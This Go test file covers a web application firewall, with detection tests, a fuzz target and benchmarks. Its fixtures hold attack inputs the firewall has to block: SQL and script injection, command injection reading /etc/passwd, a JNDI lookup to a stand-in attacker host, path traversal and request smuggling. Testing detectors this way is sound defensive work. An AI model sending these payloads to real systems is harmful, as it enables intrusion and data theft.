package waf

import (
	"encoding/json"
	"fmt"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"bulkhead/waf/crs"
	"bulkhead/waf/message"
)

func request(kind, body string) []byte {
	return []byte("POST /api/orders HTTP/1.1\r\nHost: shop.example.com\r\nUser-Agent: Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0\r\nAccept: */*\r\nContent-Type: " + kind + "\r\n\r\n" + body)
}

func TestInspect(t *testing.T) {
	tests := []struct {
		name string
		raw  []byte
		want Action
	}{
		{"honest form", request("application/x-www-form-urlencoded", "name=O%27Brien&note=select+a+plan+from+the+union"), Pass},
		{"honest json", request("application/json", `{"name":"D'Arcy","text":"it's 5 o'clock; the \"union\" & the others"}`), Pass},
		{"honest html", request("application/json", `{"html":"<p>Hello <b>world</b>, <a href=\"https://example.com\">read on</a></p>"}`), Pass},
		{"sql", request("application/x-www-form-urlencoded", "id=1%27+or+%271%27%3D%271"), Block},
		{"sql, encoded twice", request("application/x-www-form-urlencoded", "id=1%2527%2520union%2520select%25201%252C2--"), Block},
		{"script", request("application/json", `{"a":"\u003cscript\u003ealert(1)\u003c/script\u003e"}`), Block},
		{"script in base64", request("application/json", `{"a":"PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="}`), Block},
		{"command", request("application/x-www-form-urlencoded", "host=127.0.0.1%3Bcat+/etc/passwd"), Block},
		{"lookup in a header", []byte("GET / HTTP/1.1\r\nHost: a\r\nUser-Agent: ${jndi:ldap://evil.example/a}\r\n\r\n"), Block},
		{"path", []byte("GET /static/..%2f..%2f..%2fetc%2fpasswd HTTP/1.1\r\nHost: a\r\n\r\n"), Block},
		{"smuggling", []byte("POST / HTTP/1.1\r\nHost: a\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n"), Block},
		{"attack as the last of 10,000", request("application/x-www-form-urlencoded", strings.Repeat("a=b&", 10_000)+"id=1%27+or+%271%27%3D%271"), Block},
		{"attack at the end of a long text", request("text/plain", strings.Repeat("An honest sentence, and another. ", 4000)+"<script>alert(document.cookie)</script>"), Block},
	}
	e := New(Options{Second: crs.NewLate()})
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			v := e.Inspect(tt.raw)
			if v.Action != tt.want {
				t.Errorf("verdict %v, want %s", v, tt.want)
			}
			if v.Action != Pass && len(v.Reasons) == 0 {
				t.Error("no reason is given")
			}
		})
	}
}

// TestSecretsStayOut: a reason does not show what a password or a cookie holds.
func TestSecretsStayOut(t *testing.T) {
	e := New(Options{})
	for _, raw := range [][]byte{
		request("application/x-www-form-urlencoded", "password=hunter2%27+or+%271%27%3D%271"),
		[]byte("GET / HTTP/1.1\r\nHost: a\r\nCookie: sid=hunter2' or '1'='1\r\n\r\n"),
	} {
		text, err := json.Marshal(e.Inspect(raw))
		if err != nil {
			t.Fatal(err)
		}
		if strings.Contains(string(text), "hunter2") {
			t.Errorf("a secret is shown: %s", text)
		}
	}
}

// TestTogether: many at once get the verdicts that each gets alone.
func TestTogether(t *testing.T) {
	e := New(Options{})
	var wg sync.WaitGroup
	for i := range 8 {
		wg.Go(func() {
			for range 50 {
				attack := i%2 == 0
				raw := request("application/json", `{"a":"b"}`)
				if attack {
					raw = request("application/json", `{"a":"1' union select 1,2--"}`)
				}
				if v := e.Inspect(raw); (v.Action == Block) != attack {
					t.Errorf("attack %v: %v", attack, v)
				}
			}
		})
	}
	wg.Wait()
}

func FuzzInspect(f *testing.F) {
	f.Add(request("application/json", `{"a":"1' or 1=1"}`))
	f.Add([]byte("GET /%c0%ae%c0%ae/ HTTP/1.1\n\n"))
	e := New(Options{})
	f.Fuzz(func(t *testing.T, raw []byte) {
		v := e.Inspect(raw)
		if v.Action != Pass && len(v.Reasons) == 0 || v.Score < 0 || v.Score > 100 {
			t.Fatalf("verdict %v", v)
		}
	})
}

const apiRequest = "GET /api/v1/orders/4711?fields=id,name,price&page=2&sort=created&q=blue%20shoes HTTP/1.1\r\nHost: api.example.com\r\nUser-Agent: Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36\r\nAccept: application/json\r\nAccept-Language: en-US,en;q=0.9\r\nAccept-Encoding: gzip, deflate, br\r\nAuthorization: Bearer eyJhbGciOiJSUzI1NiJ9.eyJzdWIiOiIxMjMifQ.c2lnbmF0dXJl\r\nX-Request-Id: 3f2a1b4c-aaaa-4bbb-8ccc-123456789abc\r\nCookie: session=Zm9vYmFyYmF6; lang=en\r\n\r\n"

// jsonRequest has a body of 64 KiB, each of its texts another one.
func jsonRequest() []byte {
	var items []map[string]any
	for i := range 415 {
		items = append(items, map[string]any{"id": i, "name": fmt.Sprintf("Product %d, blue", i), "description": fmt.Sprintf("A sturdy thing (no. %d) for everyday use. It's made of wood & steel.", i), "price": 9.99, "tags": []string{"new", "sale"}})
	}
	b, err := json.Marshal(map[string]any{"items": items})
	if err != nil {
		panic(err) // maps of strings and numbers
	}
	return request("application/json", string(b))
}

func BenchmarkInspect(b *testing.B) {
	e := New(Options{Second: crs.NewLate()})
	for name, raw := range map[string][]byte{"api": []byte(apiRequest), "form": request("application/x-www-form-urlencoded", "name=O%27Brien&city=Z%C3%BCrich&note=rock+%27n%27+roll+%26+more"), "json64k": jsonRequest()} {
		b.Run(name, func(b *testing.B) {
			b.ReportAllocs()
			b.SetBytes(int64(len(raw)))
			var took []time.Duration
			for b.Loop() {
				from := time.Now()
				e.Inspect(raw)
				took = append(took, time.Since(from))
			}
			slices.Sort(took)
			b.ReportMetric(float64(took[len(took)/2].Nanoseconds()), "p50-ns")
			b.ReportMetric(float64(took[len(took)*99/100].Nanoseconds()), "p99-ns")
		})
	}
}

func BenchmarkCoraza(b *testing.B) {
	rules, err := crs.New()
	if err != nil {
		b.Fatal(err)
	}
	for name, raw := range map[string][]byte{"api": []byte(apiRequest), "json64k": jsonRequest()} {
		b.Run(name, func(b *testing.B) {
			b.ReportAllocs()
			for b.Loop() {
				rules.Ask(message.Parse(raw))
			}
		})
	}
}
